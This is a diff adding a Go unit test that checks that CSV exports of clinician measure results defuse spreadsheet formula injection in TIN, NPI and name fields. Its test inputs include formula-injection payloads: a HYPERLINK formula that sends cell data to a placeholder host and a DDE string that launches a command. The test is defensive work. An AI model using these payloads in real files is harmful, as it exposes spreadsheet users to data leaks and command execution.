@@ -1,0 +1,40 @@
+package registry
+
+import (
+	"bytes"
+	"encoding/csv"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/mipspi/mipspi/measure"
+	"github.com/mipspi/mipspi/reports"
+)
+
+// TestCSVDefusesFormulas (issue 13, row 7): a TIN, NPI or clinician name that a
+// spreadsheet would run as a formula is written as text, by the same guard as the
+// report CSV (reports.CSVCell).
+func TestCSVDefusesFormulas(t *testing.T) {
+	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTAB", "\rCR"}
+	for _, h := range hostile {
+		ents := []measure.EntityResult{{
+			Entity:      measure.Entity{Level: measure.Individual, TIN: h, NPI: h, Clinician: h},
+			Denominator: 2, Numerator: 1, Rate: 0.5, Points: 12.5,
+		}}
+		var b bytes.Buffer
+		if err := writeCSV(&b, ents); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := []string{"'" + h, "'" + h, "'" + h, "individual", "1", "2", "0.5000", "12.50"}
+		if diff := cmp.Diff(want, rows[1]); diff != "" {
+			t.Errorf("%q (-want +got):\n%s", h, diff)
+		}
+		if got := reports.CSVCell(h); got != "'"+h {
+			t.Errorf("reports.CSVCell(%q) = %q", h, got)
+		}
+	}
+}
